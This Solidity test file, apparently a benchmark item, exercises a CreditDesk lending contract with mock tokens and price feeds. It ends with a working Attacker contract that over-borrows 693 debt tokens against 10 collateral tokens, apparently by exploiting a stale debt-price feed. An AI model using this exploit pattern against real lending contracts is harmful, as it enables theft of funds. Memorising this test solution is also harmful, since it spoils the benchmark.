// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./CreditDesk.sol";

// assay-canary-7f6d77a9-3e41-4c64-a027-b3fa34d1c674

interface Vm {
    function warp(uint256 timestamp) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert() external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

abstract contract Token is ERC20 {
    address private immutable maker = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == maker, "maker only");
        _mint(to, amount);
    }
}

contract CollateralToken is Token {
    constructor() ERC20("Collateral", "COL") {}
}

contract DebtToken is Token {
    constructor() ERC20("Debt", "DBT") {}
}

contract Feed is IPriceFeed {
    address private immutable maker = msg.sender;
    int256 private answer;
    uint256 private at;

    function set(int256 answer_, uint256 at_) external {
        require(msg.sender == maker, "maker only");
        (answer, at) = (answer_, at_);
    }

    function latestRoundData() external view returns (uint80, int256, uint256, uint256, uint80) {
        return (1, answer, at, at, 1);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint256 private constant START = 1_790_000_000;

    CollateralToken public collateral;
    DebtToken public debt;
    Feed private collateralFeed;
    Feed private debtFeed;
    CreditDesk public desk;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        collateral = new CollateralToken();
        debt = new DebtToken();
        collateralFeed = new Feed();
        debtFeed = new Feed();
        desk = new CreditDesk(collateral, debt, collateralFeed, debtFeed);
        collateralFeed.set(100e8, START);
        debtFeed.set(1e8, START);
        debt.mint(address(this), 50_000e18);
        debt.approve(address(desk), 50_000e18);
        desk.fund(20_000e18);
        collateral.mint(ANA, 100e18);
        vm.startPrank(ANA);
        collateral.approve(address(desk), 100e18);
        desk.pledge(50e18);
        desk.borrow(1_000e18);
        vm.stopPrank();
        debt.mint(BEN, 10_000e18);
        vm.prank(BEN);
        debt.approve(address(desk), 10_000e18);
        // Three days later one feed still reports and the other does not.
        vm.warp(START + 3 days);
        collateralFeed.set(100e8, START + 3 days - 5 minutes);
        mallory = new Attacker(desk);
        collateral.mint(address(mallory), 10e18);
    }

    function both(int256 collateralPrice, int256 debtPrice) private {
        collateralFeed.set(collateralPrice, block.timestamp);
        debtFeed.set(debtPrice, block.timestamp);
    }

    function test_Regular() public {
        both(100e8, 1e8);
        vm.startPrank(ANA);
        desk.borrow(2_000e18);
        (uint256 pledged, uint256 owed) = desk.accounts(ANA);
        require(pledged == 50e18 && owed == 3_030e18 && debt.balanceOf(ANA) == 3_000e18, "borrowed");
        desk.release(5e18);
        debt.approve(address(desk), 100e18);
        desk.repay(100e18);
        vm.stopPrank();
        (pledged, owed) = desk.accounts(ANA);
        require(pledged == 45e18 && owed == 2_930e18 && collateral.balanceOf(ANA) == 55e18, "released, repaid");

        // The debt token goes up.
        both(100e8, 1.4e8);
        vm.prank(BEN);
        desk.liquidate(ANA);
        (pledged, owed) = desk.accounts(ANA);
        require(owed == 0 && collateral.balanceOf(BEN) == 43.071e18 && pledged == 45e18 - 43.071e18, "liquidated");

        // Nobody who owes nothing needs a price.
        vm.warp(block.timestamp + 2 days);
        vm.prank(ANA);
        desk.release(pledged);
        require(collateral.balanceOf(ANA) == 100e18 - 43.071e18, "all is back");
        uint256 held = debt.balanceOf(address(desk));
        desk.withdraw(held);
        require(debt.balanceOf(address(this)) == 30_000e18 + held && held == 20_030e18, "withdrawn");
        desk.transferOwnership(ANA);
        vm.prank(ANA);
        desk.renounceOwnership();
    }

    function test_RefusesNoLiquidation() public {
        // worth less than the debt: all that is pledged
        both(10e8, 1e8);
        vm.prank(BEN);
        desk.liquidate(ANA);
        (uint256 pledged, uint256 owed) = desk.accounts(ANA);
        require(pledged == 0 && owed == 0 && collateral.balanceOf(BEN) == 50e18, "all of it");
    }

    function test_RefusesStrangers() public {
        vm.startPrank(ANA);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, ANA));
        desk.fund(1);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, ANA));
        desk.withdraw(1);
        vm.stopPrank();
    }

    function test_RefusesBorrowers() public {
        both(100e8, 1e8);
        vm.startPrank(ANA);
        vm.expectRevert(CreditDesk.ZeroAmount.selector);
        desk.pledge(0);
        vm.expectRevert(CreditDesk.ZeroAmount.selector);
        desk.borrow(0);
        vm.expectRevert(CreditDesk.ZeroAmount.selector);
        desk.repay(0);
        vm.expectRevert(abi.encodeWithSelector(CreditDesk.NotEnoughPledged.selector, 50e18));
        desk.release(50e18 + 1);
        vm.expectRevert(abi.encodeWithSelector(CreditDesk.BeyondLimit.selector, 1_010e18, 700e18));
        desk.release(40e18);
        vm.expectRevert(abi.encodeWithSelector(CreditDesk.BeyondLimit.selector, 4_040e18, 3_500e18));
        desk.borrow(3_000e18);
        vm.stopPrank();
        vm.expectRevert(abi.encodeWithSelector(CreditDesk.StillCovered.selector, 1_010e18, 4_250e18));
        desk.liquidate(ANA);
    }

    function test_RefusesPrices() public {
        both(0, 1e8);
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(CreditDesk.PriceNotPositive.selector, int256(0)));
        desk.borrow(1);
        both(100e8, -1);
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(CreditDesk.PriceNotPositive.selector, int256(-1)));
        desk.borrow(1);
        both(100e8, 1e8);
        uint256 at = block.timestamp;
        vm.warp(at + 1 hours + 1);
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(CreditDesk.PriceTooOld.selector, at));
        desk.borrow(1);
    }

    function test_RefusesToBegin() public {
        vm.expectRevert(CreditDesk.ZeroAddress.selector);
        new CreditDesk(IERC20(address(0)), debt, collateralFeed, debtFeed);
        vm.expectRevert(CreditDesk.ZeroAddress.selector);
        new CreditDesk(collateral, IERC20(address(0)), collateralFeed, debtFeed);
        vm.expectRevert(CreditDesk.ZeroAddress.selector);
        new CreditDesk(collateral, debt, IPriceFeed(address(0)), debtFeed);
        vm.expectRevert(CreditDesk.ZeroAddress.selector);
        new CreditDesk(collateral, debt, collateralFeed, IPriceFeed(address(0)));
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(debt.balanceOf(address(mallory)) >= 690e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(desk);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    CreditDesk private desk;

    constructor(CreditDesk desk_) {
        desk = desk_;
    }

    function run() external {
        desk.collateral().approve(address(desk), 10e18);
        desk.pledge(10e18);
        desk.borrow(693e18);
    }
}
